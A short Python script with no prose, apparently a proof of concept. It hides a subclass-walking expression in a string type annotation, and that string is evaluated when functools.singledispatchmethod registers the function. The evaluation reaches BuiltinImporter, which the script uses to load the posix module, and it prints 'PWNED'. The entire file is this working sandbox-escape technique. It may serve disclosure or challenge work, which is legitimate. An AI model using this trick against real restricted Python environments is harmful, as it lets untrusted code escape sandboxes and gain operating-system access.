import functools

Method = functools.singledispatchmethod


def function(thing):
    pass


def other(thing: "[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == 'BuiltinImporter'][0]"):
    pass


class Mine(Method):
    def __init__(self):
        for base in (Method, Mine):
            try:
                super(base, self).__init__(function)
            except TypeError:
                continue
            try:
                self.dispatcher.register(other)
            except Exception as error:
                print(repr(error))


for key in Mine().dispatcher.registry:
    if key.__name__ == "BuiltinImporter":
        print("PWNED", key.load_module("posix"))
